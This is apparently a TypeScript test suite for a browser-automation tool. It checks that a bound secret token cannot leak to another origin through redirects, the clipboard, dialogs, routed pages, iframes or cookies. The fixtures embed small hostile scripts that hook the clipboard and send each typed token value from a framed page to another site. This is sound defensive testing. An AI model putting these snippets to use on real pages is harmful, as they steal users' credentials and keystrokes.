import { expect, secretValues, test, type Connection, type Shared } from '../fixtures.js';
import { serve, type Site } from '../fixtures/serve.js';

const token = secretValues.TOKEN;

/** An application and another site, which keeps all that it is sent. */
interface Sites {
  app: Site;
  other: Site;
  /** What the other site was sent. */
  sent: string[];
}

async function startSites(): Promise<Sites> {
  const sent: string[] = [];
  const form = `<label>Token <input id="token"></label><button id="copy" onclick="navigator.clipboard.writeText(token.value)">Copy</button>
    <button id="ask" onclick="out.textContent = prompt('Which?')">Ask</button><p id="out"></p>
    <script>const { readText } = navigator.clipboard; navigator.clipboard.readText = async () => { const text = await readText.call(navigator.clipboard); await fetch('/sent?' + text); return text; };</script>`;
  const other = await serve(async (request, response, url) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    sent.push(`${url.href} ${JSON.stringify(request.headers)} ${body}`);
    const shown = url.searchParams.get('body') ?? form;
    response.setHeader('content-type', 'text/html').end(`<title>Other</title>${shown}`);
  }, 0);
  const app = await serve(async (_, response, url) => {
    const [, route, status] = url.pathname.split('/');
    if (route === 'redirect')
      response.writeHead(Number(status), { location: url.searchParams.get('to') ?? '/' }).end();
    else {
      const frame = url.searchParams.has('frame')
        ? `<iframe src="${url.searchParams.get('frame')}"></iframe>`
        : '';
      response.setHeader('content-type', 'text/html').end(`<title>App</title>${form}${frame}`);
    }
    return Promise.resolve();
  }, 0);
  return { app, other, sent };
}

async function withSites(
  server: Shared,
  run: (server: Connection, sites: Sites, sessionId: string) => Promise<void>,
): Promise<void> {
  const sites = await startSites();
  await server.configure({
    secrets: [{ name: 'TOKEN', origins: [sites.app.url] }],
    browser: { actionTimeoutMs: 2000 },
  });
  const { sessionId } = await server.start({ url: sites.app.url });
  await run(server, sites, sessionId);
  expect(sites.sent.filter((each) => each.includes(token))).toEqual([]);
  await sites.app.close();
  await sites.other.close();
}

const fillToken = { action: 'fill', target: '#token', value: '{{secret:TOKEN}}' };

test('a request with a bound secret follows no redirect to another origin', async ({ shared }) => {
  await withSites(shared, async (server, { app, other, sent }, sessionId) => {
    for (const status of [302, 307]) {
      const to = `/redirect/${status}?to=${encodeURIComponent(other.url)}`;
      const { failed } = await server.record(sessionId, {
        action: 'request',
        method: 'POST',
        url: `${app.url}/redirect/${status}?to=${encodeURIComponent(to)}`,
        headers: { 'x-api-key': '{{secret:TOKEN}}' },
        data: { token: '{{secret:TOKEN}}' },
      });
      expect(failed).toMatchObject({ code: 'POLICY_DENIED', message: expect.stringContaining(other.url) });
    }
    expect(sent).toEqual([]);
    const within = await server.record(sessionId, {
      action: 'request',
      url: `${app.url}/redirect/302?to=/end`,
      headers: { 'x-api-key': '{{secret:TOKEN}}' },
    });
    expect(within.failed).toBeUndefined();
    expect(within.codes[0]).toContain('maxRedirects: 1');
  });
});

test('no page of another origin gets a bound secret from the clipboard or in a dialog', async ({
  shared,
}) => {
  await withSites(shared, async (server, { other }, sessionId) => {
    const put = await server.record(sessionId, { action: 'clipboard.writeText', text: '{{secret:TOKEN}}' });
    expect(put.failed?.code).toBe('POLICY_DENIED');
    const copied = await server.record(
      sessionId,
      fillToken,
      { action: 'click', target: '#copy' },
      { action: 'onDialog', promptText: '{{secret:TOKEN}}', record: false },
      { action: 'goto', url: other.url, record: false },
    );
    expect(copied.recorded).toBe(2);
    for (const key of ['Control+v', 'ControlOrMeta+V', 'Shift+Insert', 'Control+KeyV']) {
      const { failed } = await server.record(sessionId, { action: 'press', target: '#token', key });
      expect(failed?.code).toBe('POLICY_DENIED');
    }
    const { failed: read } = await server.record(sessionId, { action: 'clipboard.readText' });
    expect(read?.code).toBe('POLICY_DENIED');
    const asked = await server.record(sessionId, { action: 'click', target: '#ask' });
    expect(asked.text).not.toContain(token);
  });
});

test('a route answers with no document for an origin that has a bound secret', async ({ shared }) => {
  await withSites(shared, async (server, { app, other }, sessionId) => {
    const body = `<title>Imitation</title><label>Token <input id="token"></label><form action="${other.url}"></form>`;
    const imitation = { action: 'route', url: `${app.url}/**`, body };
    const visit = { action: 'goto', url: `${app.url}/a` };
    const typed = { action: 'pressSequentially', target: 'body', value: '{{secret:TOKEN}}' };
    const first = await server.record(sessionId, imitation, visit, typed);
    expect(first.failed).toMatchObject({ action: 2, code: 'POLICY_DENIED' });

    const next = await server.start({ url: app.url });
    const later = await server.record(next.sessionId, fillToken, imitation, visit);
    expect(later.failed).toBeUndefined();
    expect(later.pageTitle).toBe('App');
    const written = { ...imitation, body: '{{secret:TOKEN}}' };
    expect((await server.record(next.sessionId, written)).failed?.code).toBe('POLICY_DENIED');
  });
});

test('no frame of another origin takes a bound secret that is typed, or is taken for its parent', async ({
  shared,
}) => {
  await withSites(shared, async (server, { app, other, sent }, sessionId) => {
    const field = '<input id="token">';
    const script = (code: string): string => `<script>${code}</script>`;
    const steal = `setInterval(() => { token.focus(); }); token.oninput = () => fetch('/got?' + token.value);`;
    const thief = `data:text/html,${field}${script(`token.oninput = () => fetch('${other.url}/got?' + token.value, { mode: 'no-cors' })`)}`;
    const page = (frame: string): string => `${app.url}/?frame=${encodeURIComponent(frame)}`;
    const framed = `locator('iframe').contentFrame().locator('#token')`;
    const moved = script(`location = ${JSON.stringify(thief).replaceAll('</', '<\\/')}`);
    for (const [body, typed] of [
      [field + script(steal), fillToken],
      [moved, { ...fillToken, action: 'pressSequentially', target: framed }],
    ] as const) {
      const url = page(`${other.url}/?body=${encodeURIComponent(body)}`);
      const { failed } = await server.record(sessionId, { action: 'goto', url }, typed);
      expect(failed).toMatchObject({ action: 1, code: 'POLICY_DENIED' });
    }
    expect(sent.filter((each) => each.includes('/got'))).toEqual([]);
    // A blocked frame has no script.
    await shared.configure({
      secrets: [{ name: 'TOKEN', origins: [app.url] }],
      network: { blockedOrigins: [other.url] },
    });
    const { failed } = await server.record(sessionId, { action: 'goto', url: page(other.url) }, fillToken);
    expect(failed).toBeUndefined();
  });
});

test('a cookie with a bound secret reaches no other port of its host', async ({ shared }) => {
  await withSites(shared, async (server, { app, other, sent }, sessionId) => {
    const cookie = { name: 'token', value: '{{secret:TOKEN}}', url: app.url };
    const set = await server.record(sessionId, { action: 'addCookies', cookies: [cookie] });
    expect(set.failed).toBeUndefined();
    const [to] = [`${app.url}/redirect/302?to=${encodeURIComponent(other.url)}`];
    for (const action of [
      { action: 'goto', url: other.url },
      { action: 'goto', url: to },
      { action: 'request', url: other.url },
    ]) {
      const { failed } = await server.record(sessionId, action);
      expect(failed?.code).toMatch(/BLOCKED|ACTION_FAILED/);
    }
    expect(sent).toEqual([]);
    expect((await server.record(sessionId, { action: 'goto', url: app.url })).failed).toBeUndefined();
  });
});
